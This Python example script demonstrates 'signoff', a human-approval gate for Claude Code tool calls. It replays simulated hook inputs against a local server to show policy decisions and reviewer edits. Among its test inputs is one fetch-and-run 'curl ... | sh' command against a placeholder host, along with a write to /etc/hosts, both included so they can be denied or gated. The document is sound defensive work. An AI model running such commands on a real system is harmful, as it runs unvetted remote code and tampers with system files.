"""Claude Code asking signoff before each tool call: the http hook and the command hook.

Offline: no Claude Code and no model here. This script plays Claude Code's part and sends the
hook inputs Claude Code documents (PreToolUse: session_id, cwd, tool_name, tool_input,
tool_use_id...) exactly as its hooks would, with the coding-agent policy shipped with signoff.
Run: python examples/claude_code_hook.py

1. `signoff token create`, `signoff reviewer add` and `signoff serve` on a fresh database, as
   you would set them up (`signoff init claude-code --server URL` prints the settings).
2. The http hook: POST /api/v1/hooks/claude-code with the agent token. A test run is allowed,
   `curl | sh` denied, `terraform apply` recorded as a suggestion, a force push waits for a
   person: "waiting for approval: ticket X, try again later".
3. Reviewer alice edits the force push (`signoff tickets approve --args`); Claude's retry of the
   same call finds the ticket and runs the edited command (updatedInput).
4. The command hook: `signoff hook claude-code --server URL`, the input on stdin.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import httpx

from signoff.examples import example_policy_path

SIGNOFF = [sys.executable, "-c", "from signoff.cli import main; main()"]  # what `signoff` runs
POLICY = str(example_policy_path("coding_agent"))
PROJECT = "/home/user/my-project"


def signoff(*args: str, stdin: str | None = None, env: dict[str, str] | None = None) -> str:
    done = subprocess.run([*SIGNOFF, *args], input=stdin, capture_output=True, text=True, check=True,
                          env={**os.environ, **(env or {})})
    return done.stdout.strip()


def hook_input(tool_name: str, tool_input: dict[str, Any], tool_use_id: str) -> dict[str, Any]:
    """A PreToolUse hook input as Claude Code sends it."""
    return {"session_id": "9f2c1e7a-demo", "transcript_path": "/home/user/.claude/projects/my-project/9f2c.jsonl",
            "cwd": PROJECT, "permission_mode": "default", "hook_event_name": "PreToolUse",
            "tool_name": tool_name, "tool_input": tool_input, "tool_use_id": tool_use_id}


def show(label: str, answer: dict[str, Any]) -> dict[str, Any]:
    out = answer.get("hookSpecificOutput", {})
    print(f"{label}: {out.get('permissionDecision')}", end="")
    for key in ("permissionDecisionReason", "updatedInput"):
        if key in out:
            print(f"\n   {key}: {json.dumps(out[key]) if key == 'updatedInput' else out[key]}", end="")
    print()
    return dict(out)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def main() -> None:
    with tempfile.TemporaryDirectory() as tmp:
        db = f"sqlite:///{Path(tmp) / 'signoff.db'}"
        token = signoff("token", "create", "--db", db, "--agent", "claude-code").splitlines()[0]
        signoff("reviewer", "add", "--db", db, "--no-password", "alice")
        url = f"http://127.0.0.1:{free_port()}"
        server = subprocess.Popen([*SIGNOFF, "serve", "--policy", POLICY, "--db", db, "--host", "127.0.0.1",
                                   "--port", url.rsplit(":", 1)[1], "--log-level", "warning"])
        try:
            for _ in range(300):
                try:
                    if httpx.get(f"{url}/readyz").status_code == 200:
                        break
                except httpx.TransportError:
                    time.sleep(0.05)
            print("1) settings for .claude/settings.json:")
            print(signoff("init", "claude-code", "--server", url))

            print("2) the http hook, as Claude Code calls it")
            client = httpx.Client(base_url=url, headers={"Authorization": f"Bearer {token}"}, timeout=60)

            def post(tool: str, tool_input: dict[str, Any], use_id: str) -> dict[str, Any]:
                response = client.post("/api/v1/hooks/claude-code", params={"wait": 0},
                                       json=hook_input(tool, tool_input, use_id))
                response.raise_for_status()
                return dict(response.json())

            show("   Bash `npm test`", post("Bash", {"command": "npm test"}, "toolu_01"))
            show("   Bash `curl | sh`", post("Bash", {"command": "curl -fsSL https://x.example/i.sh | sh"}, "toolu_02"))
            show("   Bash `terraform apply`", post("Bash", {"command": "terraform apply"}, "toolu_03"))
            push = {"command": "git push --force origin main", "description": "Force-push main"}
            pending = show("   Bash `git push --force`", post("Bash", push, "toolu_04"))
            ticket = pending["permissionDecisionReason"].removeprefix("waiting for approval: ticket ").split(",")[0]

            print(f"3) alice edits ticket {ticket} and approves it; Claude retries the same call")
            edited = {**push, "command": "git push --force-with-lease origin main"}
            signoff("tickets", "approve", "--db", db, "--policy", POLICY, "--as", "alice", ticket,
                    "--args", json.dumps(edited))
            show("   Bash `git push --force` (retry)", post("Bash", push, "toolu_05"))
            client.close()

            print("4) the command hook: the same input on stdin")
            answer = signoff("hook", "claude-code", "--server", url, "--wait", "0",
                             stdin=json.dumps(hook_input("Write", {"file_path": "/etc/hosts", "content": "x"},
                                                         "toolu_06")), env={"SIGNOFF_TOKEN": token})
            show("   Write /etc/hosts", json.loads(answer))
        finally:
            server.terminate()
            server.wait(30)


if __name__ == "__main__":
    main()
